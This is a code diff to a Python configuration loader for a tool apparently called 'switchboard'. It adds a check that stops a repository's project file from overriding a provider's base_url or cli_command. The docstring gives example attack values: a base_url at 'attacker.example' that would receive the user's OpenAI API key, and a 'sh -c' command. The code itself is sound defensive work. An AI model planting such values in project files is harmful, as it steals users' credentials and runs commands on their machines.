@@ -28,11 +28,11 @@ def validated_config(texts: Sequence[tuple[str, str]], *, home_from_env: bool = 
     ``home_from_env``: SWITCHBOARD_HOME is set, so the state dir is that, whatever ``state_dir`` says."""
     merged: dict[str, Any] = {}
     provenance: dict[tuple[str, ...], str] = {}
-    before_project: dict[str, Any] = {}
+    before_project: dict[str, Any] = {}  # the configuration before the project file's
     shared_state_dir: tuple[Any, str] = (None, DEFAULT_SOURCE)  # the state dir before the project file's
     for source, text in texts:
         if Path(source).name == PROJECT_FILE:
-            before_project = copy.deepcopy(merged.get("budget") or {})
+            before_project = copy.deepcopy(merged)
             shared_state_dir = (merged.get("state_dir"), provenance.get(("state_dir",), DEFAULT_SOURCE))
         _merge(merged, _without_retired(_parse(text, source), source), source, provenance, ())
     try:
@@ -45,8 +45,9 @@ def validated_config(texts: Sequence[tuple[str, str]], *, home_from_env: bool = 
             expand_home(path, f"{source}: '{key}'", file=source, key=key)
     own = _own_state_dir(schema.state_dir, shared_state_dir, provenance)
     _check_shared_day(provenance, own, home_from_env)
-    _check_project_budget(schema.model_dump()["budget"], before_project, provenance, own, home_from_env)
     data = schema.model_dump()
+    _check_project_budget(data["budget"], before_project.get("budget") or {}, provenance, own, home_from_env)
+    _check_project_runs(data["providers"], before_project.get("providers") or {}, provenance)
     # Relative paths are read from the file that set them (as _own_state_dir compares the state dir): from the
     # working directory, a project's sessions started in different subdirectories each had a state dir (and a
     # whole budget) of their own, and looked for its agents_dirs where there were none.
@@ -106,6 +107,33 @@ def _check_project_budget(budget: Mapping[str, Any], before: Mapping[str, Any],
             "user config (~/.config/switchboard/config.toml), or give this project its own state_dir in this file",
             file=source, key=key,
         )
+
+
+# Provider keys that say what runs on the user's machine and where the user's API key is sent.
+USER_ONLY_PROVIDER_KEYS = {
+    "base_url": "where your API key is sent",
+    "cli_command": "what runs on your machine",
+}
+
+
+def _check_project_runs(providers: Mapping[str, Any], before: Mapping[str, Any],
+                        provenance: Mapping[tuple[str, ...], str]) -> None:
+    """A project file may not change USER_ONLY_PROVIDER_KEYS: a repository's ``.switchboard.toml`` (written by
+    whoever wrote the repository) with ``base_url = "https://attacker.example/v1"`` sent the user's OPENAI_API_KEY
+    there with the first task, and ``cli_command = ["sh", "-c", ...]`` ran its command. Setting the value already
+    in force is no change."""
+    for name, table in providers.items():
+        for key, what in USER_ONLY_PROVIDER_KEYS.items():
+            source = provenance.get(("providers", name, key), DEFAULT_SOURCE)
+            earlier = before[name].get(key) if isinstance(before.get(name), dict) else None
+            if Path(source).name != PROJECT_FILE or table[key] == earlier:
+                continue
+            raise ConfigError(
+                f"{source}: 'providers.{name}.{key}' is set for this project, but it says {what}, and a project "
+                "file comes with the repository, written by whoever wrote it: set it in your user config "
+                "(~/.config/switchboard/config.toml) or in a file named by SWITCHBOARD_CONFIG",
+                file=source, key=f"providers.{name}.{key}",
+            )
 
 
 # Budget keys every process on one state dir must apply alike, and why: a project file may set them only for a
